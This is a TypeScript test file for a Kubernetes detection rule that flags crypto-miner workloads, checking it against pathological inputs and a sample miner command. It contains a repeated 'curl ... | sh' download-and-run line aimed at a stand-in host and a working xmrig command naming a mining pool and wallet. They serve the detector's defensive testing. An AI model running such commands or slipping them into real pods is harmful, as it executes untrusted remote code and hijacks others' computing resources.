// run-tests: alone
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import cryptoMinerWorkload from '../../src/rules/threat/crypto-miner-workload.rule.js';
import type { K8sObject } from '../../src/core/types.js';
import { runCase } from '../../src/testing/rule-tester.js';

/**
 * Inputs shaped to make regexes backtrack or decoders balloon. Each must be read without throwing and
 * must not hide a miner written next to it. How long they take is measured by `npm run bench:hostile`
 * (the "megabytes of base64" row and its neighbours), not here: a timed test fails on a busy machine.
 */
const HOSTILE: Readonly<Record<string, string>> = {
  'scheme with a body of punctuation': `stratum://${'!'.repeat(200_000)}${' stratum://!!!'.repeat(10_000)}`,
  'long dotted host': ` ${'a.'.repeat(100_000)}x`,
  'megabytes of base64 text': Buffer.from('echo hello world; '.repeat(200_000)).toString('base64'),
  'odd-length hex run': `${'ab'.repeat(150_000)}a`,
  'unbalanced quotes and substitutions': `${'"'.repeat(100_000)}${"'".repeat(100_000)}${'$('.repeat(50_000)}`,
  'thousands of download pipes': 'curl http://192.0.2.1/x | sh; '.repeat(5_000),
};

const MINER = 'xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

function pod(text: string): K8sObject {
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'hostile' }, spec: { containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', text], args: [text] }] } };
}

describe('crypto-miner-workload on hostile input', () => {
  for (const [name, text] of Object.entries(HOSTILE)) {
    it(`${name}: read without throwing, and a miner written before it is still found`, () => {
      assert.doesNotThrow(() => runCase(cryptoMinerWorkload, { name, objects: [pod(text)] }));
      const findings = runCase(cryptoMinerWorkload, { name, objects: [pod(`${MINER}; ${text}`)] });
      assert.deepEqual(findings.map((f) => f.severity), ['critical'], `${name}: ${findings.map((f) => f.message).join('; ')}`);
    });
  }

  it('text too long to examine is reported, not passed over in silence', () => {
    const findings = runCase(cryptoMinerWorkload, { name: 'base64', objects: [pod(HOSTILE['megabytes of base64 text'] as string)] });
    assert.equal(findings.length, 1);
    assert.match(findings[0]!.message, /text not examined/);
  });
});
